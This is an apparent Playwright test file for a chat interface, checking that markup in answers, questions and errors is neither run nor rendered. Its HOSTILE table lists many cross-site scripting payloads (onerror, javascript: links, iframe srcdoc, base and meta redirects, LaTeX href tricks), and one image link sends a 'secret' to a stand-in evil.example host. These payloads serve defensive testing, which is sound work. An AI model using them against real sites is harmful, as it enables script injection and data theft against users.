"""Text that wants to be more than text: in an answer, in a question, in the service's own words."""

import re

import pytest
from playwright.sync_api import Page, expect

from browser.asked import asking
from browser.chat_page import answered, ask, expect_state, last_answer, messages
from dashscope_simulator.profiles import PROFILES
from dashscope_simulator.refusals import MARKUP
from nicewen.services.language import words_of

FORBIDDEN = (
    "img, script, style, link, meta, base, iframe, object, embed, form, svg, video, audio, "
    "input:not([type=checkbox]), button:not(.nicewen-copy-code), textarea, "
    "[style], [onclick], [onerror], [onload], [onmouseover], [ontoggle]"
)
OUTSIDE = """() => [...document.querySelectorAll(
    'body, .nicewen-page, .nicewen-header, .nicewen-header *, .nicewen-foot, .nicewen-composer, .nicewen-composer *'
  )].map(element => {
    const {x, y, width, height} = element.getBoundingClientRect(), look = getComputedStyle(element);
    return [element.className, x, y, width, height, look.color, look.backgroundColor, look.display, look.position];
  })"""
RAN = "() => Boolean(window.ran)"
HOSTILE = {
    "html": """
<img src=x onerror="window.ran=1"><script>window.ran=1</script><svg onload="window.ran=1"></svg>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe><details open ontoggle="window.ran=1">x</details>
<style>body, .nicewen-header { display: none !important }</style><link rel=stylesheet href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name=a autofocus onfocus="window.ran=1"><button>send</button></form>
<div class="nicewen-page nicewen-header q-dialog" id="app" style="position:fixed;inset:0;background:red">over all</div>
""",
    "links": """
[a](javascript:window.ran=1) [b](JaVa&#x09;Script:window.ran=1) [c](data:text/html,<script>opener.ran=1</script>)
<javascript:window.ran=1> <a href="java\tscript:window.ran=1">d</a> [e](vbscript:x) [f](//evil.example/x)
[good](https://example.com/?a=1&b=2 "a title\\" onmouseover=window.ran=1") https://example.org/x me@example.com
[ref]

[ref]: javascript:window.ran=1
""",
    "images": """
![a](https://evil.example/?q=secret) ![b](http://evil.example/b.png "t") <img src="https://evil.example/c.png">
![c](javascript:window.ran=1) ![d](data:image/svg+xml;base64,PHN2Zy8+) [![e](https://evil.example/e.png)](https://e.example)
""",
    "formulas": r"""
$\href{javascript:window.ran=1}{x}$ and $\url{javascript:window.ran=1}$ and $\text{<img src=x onerror=window.ran=1>}$

$$\includegraphics{https://evil.example/f.png} \style{position:fixed}{x} \htmlClass{nicewen-page}{y}$$

<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:window.ran=1">z</maction></math>
""",
    "code": """
```html"><img src=x onerror=window.ran=1>
<script>window.ran=1</script></code></pre><img src=x onerror=window.ran=1>
```

`<img src=x onerror=window.ran=1>`

| a <script>window.ran=1</script> | b |
|---|---|
| <img src=x onerror=window.ran=1> | `|` |
""",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_an_answer_runs_nothing_and_changes_nothing_around_it(page: Page, name: str) -> None:
    ask(page, asking())
    expect_state(page, "done")
    before = page.evaluate(OUTSIDE)
    ask(page, asking(words=HOSTILE[name], rate=300))
    expect(messages(page, "assistant")).to_have_count(2)
    expect_state(page, "done")
    expect(last_answer(page).get_by_test_id("answer-text").locator(FORBIDDEN)).to_have_count(0)
    assert page.evaluate(OUTSIDE) == before
    assert not page.evaluate(RAN)


@pytest.mark.parametrize("name", HOSTILE)
def test_every_link_opens_elsewhere_and_tells_nothing_of_us(page: Page, name: str) -> None:
    ask(page, asking(words=HOSTILE[name]))
    expect_state(page, "done")
    links = last_answer(page).locator("a[href]")
    found = links.evaluate_all("links => links.map(link => [link.getAttribute('href'), link.target, link.rel])")
    assert ("https://example.com/?a=1&b=2" in {href for href, _, _ in found}) == (name == "links")
    for href, target, rel in found:
        assert re.match("https?://|mailto:|#", href), href
        assert href.startswith("#") or (target == "_blank" and {"noopener", "noreferrer"} <= set(rel.split()))


def test_markup_in_an_answer_is_not_run_when_it_comes_in_pieces(page: Page) -> None:
    ask(page, asking("markup-in-text"))
    expect_state(page, "done")
    expect(last_answer(page).locator("strong")).to_have_text("粗体")
    expect(last_answer(page).get_by_test_id("answer-text").locator(FORBIDDEN)).to_have_count(0)


def test_a_question_is_shown_as_it_was_written(page: Page) -> None:
    asked = asking(words="<img src=x onerror='window.ran=1'> **not bold** <b>nor this</b>")
    ask(page, asked)
    expect(messages(page, "user")).to_have_text(asked.text)
    expect(messages(page, "user").locator("img, b, strong")).to_have_count(0)
    page.wait_for_url("**/c/*")  # what is loaded again is this conversation
    page.reload()
    expect(messages(page, "user")).to_have_text(asked.text)
    assert not page.evaluate(RAN)


def test_markup_in_an_error_is_shown_as_text(page: Page) -> None:
    ask(page, asking("markup-in-error"))
    error = page.get_by_test_id("error")
    said = PROFILES["markup-in-error"].expected.message
    assert said == MARKUP
    expect(error.locator("> *").first).to_have_text(words_of("en")("error-refused", said=said))
    expect(error.locator("img, b, strong, a:not([data-testid=raw-events])")).to_have_count(0)
    error.locator("summary").click()
    expect(error.locator("details")).to_contain_text(said)


def test_a_harmless_answer_after_a_hostile_one_looks_as_ever(page: Page) -> None:
    ask(page, asking(words=HOSTILE["html"]))
    expect_state(page, "done")
    answered(page, asking(words="And now?"))
